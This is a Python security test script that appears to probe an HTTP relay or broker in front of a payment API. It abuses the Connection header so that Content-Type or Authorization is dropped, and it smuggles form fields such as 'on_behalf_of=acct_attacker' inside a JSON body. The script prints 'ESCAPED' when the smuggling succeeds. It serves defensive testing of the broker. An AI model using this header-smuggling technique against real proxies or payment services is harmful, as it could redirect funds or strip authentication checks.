# attack: Connection names headers to drop: a body is checked by its Content-Type and then sent without it
# expect: broker
# validator: refused
import json
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


def post(connection, content_type, body):
    text = b"POST /v1/payment_intents HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close, " + connection + b"\r\n"
    text += b"Content-Type: " + content_type + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    return speak(text, 0.4)


# As JSON this is one harmless field; as a form, which a body without a type is for many servers, it has on_behalf_of in it.
BODY = b'{"description": "&on_behalf_of=acct_attacker&amount=1&x="}'
for connection in (
    b"Content-Type",
    b"content-type",
    b"keep-alive, Content-Type",
    b"Content-Type, Content-Length",
    b"Content_Type",
):
    answer = post(connection, b"application/json", BODY)
    head, _, body = answer.partition(b"\r\n\r\n")
    print(connection, head[:30])
    if not head.startswith(b"HTTP/1.1 200"):
        continue
    arrived = json.loads(body)["echo"]
    if "on_behalf_of=" in arrived["body"] and "json" not in arrived["headers"].get("content-type", ""):
        print("ESCAPED: the body arrived without the type that it was checked by", flush=True)

# Dropping what the broker itself puts in would be worse still.
for connection in (b"Authorization", b"Accept-Encoding", b"Host", b"close, authorization, idempotency-key"):
    answer = speak(
        b"GET /v1/customers/cus_1 HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close, " + connection + b"\r\n\r\n", 0.4
    )
    print(connection, answer[:30])
    if b" 200 " in answer[:20] and (b'"authorization"' not in answer or b'"accept-encoding": "identity"' not in answer):
        print("ESCAPED: Connection took away what the broker put in", flush=True)
